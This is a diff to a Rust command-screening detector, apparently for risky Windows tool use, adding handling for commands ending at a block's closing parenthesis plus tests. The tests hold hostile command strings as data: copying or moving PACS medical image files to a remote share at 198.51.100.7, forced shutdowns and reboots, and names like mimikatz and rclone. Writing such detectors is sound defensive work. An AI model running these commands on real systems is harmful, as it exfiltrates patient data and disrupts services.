@@ -1144,7 +1144,7 @@ fn finds_program(word: &[u8]) -> bool {
 /// .txt=exefile`), a job scheduled to run a program (`at 23:00 x.exe`), a help file
 /// from afar, a file fetched by TFTP, hidden attributes, a script for bash.
 fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> bool {
-    let words: Vec<&[u8]> = leading_arguments(line, chance_bytes).collect();
+    let words = before_block_end(leading_arguments(line, chance_bytes).collect());
     let remote = || words.iter().any(|word| names_remote_host(word));
     // `/q`, `-F:*`, `/fs:ntfs`: a switch of `names` (one ending with `:` takes a value);
     // `/q/y`: Windows' tools read each part after a `/` as a switch (session 41:
@@ -1360,6 +1360,42 @@ fn bash_runs(words: &[&[u8]]) -> bool {
             .is_some_and(|rest| *root != "/" || rest.contains(&b'/'))
     }) && operand.last() != Some(&b'/');
     script_path || operand.to_ascii_lowercase().ends_with(b".sh")
+}
+
+/// `words` (a tool's arguments) up to a block's closing `)`: alone (`( copy a \\h\s )`)
+/// or glued to the last word (`(shutdown /t 0 /r)`), cmd.exe ends the command there, so
+/// it is neither an operand nor part of a switch (review rv41-screen M1: copy counted
+/// three operands and shutdown refused `/r)`; session 40 alerted). A `)` that a `(` of
+/// the same word opened is the word's (`a(1).dcm`).
+fn before_block_end(mut words: Vec<&[u8]>) -> Vec<&[u8]> {
+    let unbalanced = |word: &[u8]| {
+        word.iter().filter(|&&b| b == b')').count() > word.iter().filter(|&&b| b == b'(').count()
+    };
+    if let Some(at) = words.iter().position(|word| unbalanced(word)) {
+        let word = words[at];
+        words.truncate(at);
+        // What precedes the first unmatched `)` of the word is its last argument.
+        let mut depth = 0usize;
+        let end = word
+            .iter()
+            .position(|&b| match b {
+                b'(' => {
+                    depth += 1;
+                    false
+                }
+                b')' if depth == 0 => true,
+                b')' => {
+                    depth -= 1;
+                    false
+                }
+                _ => false,
+            })
+            .unwrap_or(word.len());
+        if end > 0 {
+            words.push(&word[..end]);
+        }
+    }
+    words
 }
 
 /// Whether `word` is a time `at` reads: `23:00`, `3:00`, and of twelve hours `3:00PM`,
@@ -9740,6 +9776,31 @@ mod lolbin_tests {
             &[false, true],
         );
         assert_alerts(&["mimikatz.com", "rclone.com 2>nul"], &[false]);
+    }
+
+    /// Review rv41-screen (M1): a command inside a `( … )` block ends at the block's `)`,
+    /// alone or glued to its last word; the `)` is no operand (copy's third) and no
+    /// switch (shutdown's `/r)`). Session 40 alerted on each.
+    #[test]
+    fn a_blocks_closing_parenthesis_ends_the_command() {
+        assert_alerts(
+            &[
+                "if exist C:\\PACS ( copy C:\\PACS\\*.dcm \\\\198.51.100.7\\s )",
+                "for %f in (C:\\PACS\\*.dcm) do ( copy \"%f\" \\\\198.51.100.7\\s )",
+                "if exist C:\\PACS ( xcopy C:\\PACS \\\\198.51.100.7\\s /s /e )",
+                "if exist C:\\PACS ( move C:\\PACS\\*.dcm \\\\198.51.100.7\\s)",
+                "if 1==1 ( shutdown /r /t 0 )",
+                "if %errorlevel%==0 ( shutdown /s /f /t 0 ) else ( echo ok )",
+                "(shutdown /t 0 /r)",
+                "if 1==1 (shutdown /s /t 0 /f)",
+            ],
+            &[false, true],
+        );
+        // A `)` that a `(` of the word opened is the word's (`a(1).dcm`).
+        assert_alerts(
+            &["copy C:\\PACS\\a(1).dcm \\\\198.51.100.7\\s(2)"],
+            &[false],
+        );
     }
 
     /// Every ambiguous tool is judged by a rule of its arguments: its switches, its
